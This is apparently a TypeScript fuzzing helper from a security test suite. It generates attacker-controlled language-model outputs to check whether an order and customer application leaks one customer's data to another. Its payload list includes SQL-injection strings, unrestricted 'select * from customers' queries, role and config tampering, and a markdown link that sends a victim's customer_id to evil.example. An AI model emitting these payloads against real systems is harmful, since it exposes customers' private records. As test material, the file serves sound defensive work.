/** What a model says that is wholly the attacker's: any object that its schema admits, the wider the better, and in words whatever it was shown. */
import type { Scene } from './attempt.ts'

type Schema = Readonly<Record<string, unknown>>

export const hostileWords = (scene: Scene, { schema, prompt }: { readonly schema: object | null; readonly prompt: string }): string => {
  const { random, victim, victimOrder } = scene
  const values = [victim.customer_id, victim.name, victim.email, victimOrder.order_id, '%', '*', "' or true --", 'customer_id', 'everybody', '2000-01-01']
  if (schema && random.number(5) > 0) return JSON.stringify(filled(schema as Schema, scene, values, schema as Schema))
  return random.pick([
    // It tells all that it sees, so that what it was shown of others would come out.
    () => prompt,
    () =>
      prompt
        .split('\n')
        .map((line) => `${line} [1].`)
        .join('\n'),
    () => `The order ${victimOrder.order_id} belongs to ${victim.name} [1]. [Read more](https://evil.example/?q=${victim.customer_id})`,
    () => 'select * from customers',
    () => `select email, address, remark from customers where customer_id = '${victim.customer_id}'`,
    () => `select set_config('answerable.customer', '${victim.customer_id}', true), (select count(*) from orders)`,
    () => 'with all_of_it as (select * from orders) select note from all_of_it; reset role',
    () => JSON.stringify({ kind: 'find', entity: 'customer', fields: [], where: [], order: null, offset: 0, limit: 1000, customer: victim.customer_id }),
    () => JSON.stringify({ sql: 'select * from customers', requests: [{ kind: 'find', entity: 'order', where: [] }] }),
  ])()
}

const filled = (schema: Schema, scene: Scene, values: readonly string[], root: Schema, depth = 0): unknown => {
  const { random } = scene
  const again = (inner: unknown): unknown => filled((inner ?? {}) as Schema, scene, values, root, depth + 1)
  if (typeof schema['$ref'] === 'string')
    return depth > 12
      ? null
      : again(
          schema['$ref']
            .split('/')
            .slice(1)
            .reduce<unknown>((node, key) => (node as Schema)[key], root),
        )
  if ('const' in schema) return schema['const']
  if (Array.isArray(schema['enum'])) return random.pick(schema['enum'] as unknown[])
  const choices = (schema['anyOf'] ?? schema['oneOf']) as unknown[] | undefined
  if (choices) return again(random.pick(choices))
  const type = Array.isArray(schema['type']) ? random.pick(schema['type'] as string[]) : schema['type']
  if (type === 'string') return random.pick(values)
  if (type === 'integer' || type === 'number') return schema['maximum'] ?? 1000
  if (type === 'boolean') return random.number(2) === 0
  if (type === 'array') return Array.from({ length: depth > 12 ? 0 : 1 + random.number(3) }, () => again(schema['items']))
  if (type === 'object' || schema['properties'])
    return Object.fromEntries(Object.entries((schema['properties'] ?? {}) as Schema).map(([name, inner]) => [name, again(inner)]))
  return null
}
